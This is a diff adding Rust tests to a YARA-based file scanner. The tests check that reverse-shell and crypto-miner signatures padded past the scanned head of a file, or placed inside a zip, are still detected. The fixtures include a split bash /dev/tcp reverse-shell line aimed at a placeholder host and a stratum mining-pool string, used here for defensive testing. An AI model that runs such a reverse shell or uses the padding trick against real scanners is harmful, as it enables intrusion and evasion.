@@ -562,3 +562,65 @@ fn a_rule_file_that_does_not_compile_is_a_usage_error() {
         assert!(String::from_utf8_lossy(&out.stderr).contains(&bad_arg));
     }
 }
+
+/// Padding a script or a library past the head airlock sniffs hides nothing: text and
+/// executables are matched whole on disk and as deflated zip members, as they are when small.
+#[test]
+fn padding_past_the_sniffed_head_hides_nothing() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let shell = lines(&["bash -i >& /dev/", "tcp/x.example.invalid/4444 0>&1\n"]);
+    let mut script = b"#!/bin/sh\n".to_vec();
+    while script.len() < 200_000 {
+        script.extend_from_slice(b"# a comment line that pads the script\n");
+    }
+    script.extend_from_slice(&shell);
+    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
+    elf.resize(300_000, 0);
+    elf.extend_from_slice(&lines(&["stratum", "+tcp://pool.example.invalid:3333\0"]));
+    elf.resize(310_000, 0);
+    for (name, data, want) in [
+        ("run.sh", &script, "yara-reverse-shell-dev-tcp"),
+        ("libx.so", &elf, "yara-miner-stratum"),
+    ] {
+        let r = scan_bytes(dir.path(), name, data);
+        assert_eq!(
+            yara_ids(&r),
+            vec![want.to_string()],
+            "{name}: {:?}",
+            r.findings
+        );
+        let z = wheel(&[(name, data)]);
+        let r = scan_bytes(dir.path(), "bundle.zip", &z);
+        assert_eq!(
+            yara_ids(&r),
+            vec![want.to_string()],
+            "zip {name}: {:?}",
+            r.findings
+        );
+        assert!(
+            r.findings.iter().all(|f| f.rule.id != "resource-limit"),
+            "{:?}",
+            r.findings
+        );
+    }
+}
+
+/// Past the matched bound (64 MiB), what is left unmatched is named by an info finding.
+#[test]
+fn bytes_past_the_matched_bound_are_reported() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
+    elf.resize(airlock::yara::MAX_MATCHED + 1000, 0);
+    let r = scan_bytes(dir.path(), "big.so", &elf);
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule.id == "resource-limit")
+        .unwrap_or_else(|| panic!("no resource-limit: {:?}", r.findings));
+    assert_eq!(f.severity, Severity::Info);
+    assert!(
+        f.evidence.contains("1,000 bytes") || f.evidence.contains("1000 bytes"),
+        "{}",
+        f.evidence
+    );
+}
